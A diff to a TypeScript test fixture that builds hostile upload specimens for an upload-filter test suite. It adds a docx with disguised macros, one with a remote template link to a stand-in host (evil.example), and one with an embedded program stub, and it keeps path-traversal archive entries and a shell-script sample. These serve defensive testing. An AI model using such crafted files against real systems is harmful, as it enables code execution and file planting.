@@ -1,5 +1,6 @@
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
+import { zip } from './zip'
 
 /** A hostile file. */
 export interface Specimen {
@@ -61,13 +62,14 @@ export async function uploadCorpus(): Promise<Specimen[]> {
     ...inEvery('an SVG with an entity', xxe, ['a.svg', 'a.png']),
     ...inEvery('a program', Buffer.from('MZ\x90\0\x03\0\0\0\x04', 'latin1'), ['a.jpg', 'a.exe', 'a.pdf', 'a.docx']),
     ...inEvery('a script of the shell', Buffer.from('#!/bin/sh\nid\n'), ['a.jpg', 'a.sh', 'a.pdf']),
-    specimen('a PNG as .jpg', 'a.jpg', png, 415),
-    specimen('a JPEG as .png', 'a.png', jpg, 415),
-    specimen('a JPEG as .html', 'a.html', jpg, 415),
-    specimen('a JPEG as .svg', 'a.svg', jpg, 415),
-    specimen('a JPEG as .jpg.html', 'a.jpg.html', jpg, 415),
-    specimen('a JPEG as .php', 'a.jpg.php', jpg, 415),
-    specimen('a JPEG as .pdf', 'a.pdf', jpg, 415, 'scan'),
+    specimen('a PNG as .jpg', 'a.jpg', png, 'harmless'),
+    specimen('a JPEG as .png', 'a.png', jpg, 'harmless'),
+    specimen('a JPEG as .html', 'a.html', jpg, 'harmless'),
+    specimen('a JPEG as .svg', 'a.svg', jpg, 'harmless'),
+    specimen('a JPEG as .jpg.html', 'a.jpg.html', jpg, 'harmless'),
+    specimen('a JPEG as .php', 'a.jpg.php', jpg, 'harmless'),
+    specimen('a JPEG as .pdf', 'a.pdf', jpg, 'harmless', 'scan'),
+    specimen('a JPEG as .html, as a scan', 'a.html', jpg, 'harmless', 'scan'),
     specimen('a PDF as .jpg', 'a.jpg', pdf, 415, 'scan'),
     specimen('a PDF where a picture belongs', 'a.pdf', pdf, 415),
     specimen('a video where a picture belongs', 'a.mp4', ftyp('isom'), 415),
@@ -127,6 +129,15 @@ export async function uploadCorpus(): Promise<Specimen[]> {
     specimen('a docx that climbs out', 'a.docx', docx({ '../../../../tmp/a': Buffer.from('a') }), 415, 'paper'),
     specimen('a docx from the root', 'a.docx', docx({ '/etc/cron.d/a': Buffer.from('a') }), 415, 'paper'),
     specimen('a docx with macros', 'a.docx', docx({ 'word/vbaProject.bin': Buffer.from('a') }), 415, 'paper'),
+    specimen('a docx whose macros have another name', 'a.docx', docx(hiddenMacros), 415, 'paper'),
+    specimen('a docx with a template of another server', 'a.docx', docx(foreignTemplate), 415, 'paper'),
+    specimen(
+      'a docx with a program in it',
+      'a.docx',
+      docx({ 'word/embeddings/a.bin': Buffer.from('MZ') }),
+      415,
+      'paper',
+    ),
     specimen('a docx that breaks off', 'a.docx', docx().subarray(0, 60), 415, 'paper'),
     specimen('a docx with a page before it', 'a.docx', Buffer.concat([html, docx()]), 415, 'paper'),
 
@@ -135,7 +146,7 @@ export async function uploadCorpus(): Promise<Specimen[]> {
       specimen(`the name ${JSON.stringify(name).slice(0, 60)} of a scan`, name, jpg, 'harmless', 'scan'),
     ),
     specimen('a NUL that hides the ending', 'a.html\0.jpg', jpg, 'harmless'),
-    specimen('a NUL before another ending', 'a.jpg\0.html', jpg, 415),
+    specimen('a NUL before another ending', 'a.jpg\0.html', jpg, 'harmless'),
   ]
 }
 
@@ -210,40 +221,20 @@ function crc32(bytes: Buffer): number {
 const manyParts = (count: number) =>
   Object.fromEntries(Array.from({ length: count }, (_, index) => [`word/part${index}.xml`, Buffer.alloc(0)]))
 
+const hiddenMacros = {
+  'word/media/image1.dat': Buffer.from('a'),
+  '[Content_Types].xml': Buffer.from(
+    '<Types><Override PartName="/word/media/image1.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
+  ),
+}
+const foreignTemplate = {
+  'word/_rels/settings.xml.rels': Buffer.from(
+    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+  ),
+}
+
 const docx = (parts: Record<string, Buffer> = {}, unpacked?: number): Buffer =>
   zip(
     { '[Content_Types].xml': Buffer.from('<Types/>'), 'word/document.xml': Buffer.from('<w:document/>'), ...parts },
     unpacked,
   )
-
-/** @param unpacked what the table of contents says that the last part unpacks to */
-export function zip(parts: Record<string, Buffer>, unpacked?: number): Buffer {
-  const names = Object.keys(parts)
-  const locals: Buffer[] = []
-  const entries: Buffer[] = []
-  let at = 0
-  for (const [name, content] of Object.entries(parts)) {
-    const local = Buffer.alloc(30)
-    local.write('PK\x03\x04', 'latin1')
-    local.writeUInt32LE(content.length, 18)
-    local.writeUInt32LE(content.length, 22)
-    local.writeUInt16LE(name.length, 26)
-    const entry = Buffer.alloc(46)
-    entry.write('PK\x01\x02', 'latin1')
-    entry.writeUInt32LE(content.length, 20)
-    entry.writeUInt32LE(name === names.at(-1) && unpacked ? unpacked : content.length, 24)
-    entry.writeUInt16LE(name.length, 28)
-    entry.writeUInt32LE(at, 42)
-    locals.push(local, Buffer.from(name), content)
-    entries.push(entry, Buffer.from(name))
-    at += local.length + name.length + content.length
-  }
-  const directory = Buffer.concat(entries)
-  const end = Buffer.alloc(22)
-  end.write('PK\x05\x06', 'latin1')
-  end.writeUInt16LE(names.length, 8)
-  end.writeUInt16LE(names.length, 10)
-  end.writeUInt32LE(directory.length, 12)
-  end.writeUInt32LE(at, 16)
-  return Buffer.concat([...locals, directory, end])
-}
